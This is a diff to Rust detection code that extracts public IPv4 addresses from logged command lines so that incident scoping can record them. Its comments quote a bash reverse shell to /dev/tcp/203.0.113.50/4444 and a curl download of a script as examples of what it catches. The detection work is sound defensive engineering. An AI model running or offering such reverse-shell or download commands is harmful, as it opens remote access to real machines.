@@ -44,6 +44,26 @@ const HOST_FIELDS: &[&str] = &[
 ];
 /// Fields naming written files.
 const FILE_FIELDS: &[&str] = &["TargetFilename", "file.path"];
+/// Dotted-quad IPv4 addresses in a command line (`203.0.113.50`,
+/// `/dev/tcp/203.0.113.50/4444`, `203.0.113.50:8080`, `http://…/`), each
+/// once, in order. Version numbers rarely parse (`10.0.19041.1` does not).
+fn addresses_in(text: &str) -> Vec<std::net::IpAddr> {
+    let mut out: Vec<std::net::IpAddr> = Vec::new();
+    for token in text.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
+        let t = token.trim_matches('.');
+        if t.len() < 7 || t.bytes().filter(|b| *b == b'.').count() != 3 {
+            continue;
+        }
+        if let Ok(ip) = t.parse::<std::net::Ipv4Addr>() {
+            let ip = std::net::IpAddr::V4(ip);
+            if !out.contains(&ip) {
+                out.push(ip);
+            }
+        }
+    }
+    out
+}
+
 /// How many finding ids an entity lists.
 pub(crate) const MAX_IDS: usize = 1000;
 
@@ -257,6 +277,26 @@ impl ScopeBuilder {
                     id,
                     f,
                 );
+            }
+        }
+        // On Linux (auditd, no Sysmon network events) the command line is
+        // where a reverse shell's or a download's address is: `bash -i >&
+        // /dev/tcp/203.0.113.50/4444`, `curl http://203.0.113.50/x.sh`.
+        // Public addresses only (an internal one in a command line is a
+        // scan target as often as a pivot).
+        if let Some(cmd) = src.field_text("CommandLine") {
+            for ip in addresses_in(&cmd).into_iter().take(8) {
+                if classify_ip(ip) == IpClass::External {
+                    self.add(
+                        IPS,
+                        ip.to_string(),
+                        &ip.to_string(),
+                        EntityClass::Address(IpClass::External),
+                        Some("command line"),
+                        id,
+                        f,
+                    );
+                }
             }
         }
         let writer = src.field_text("Image");
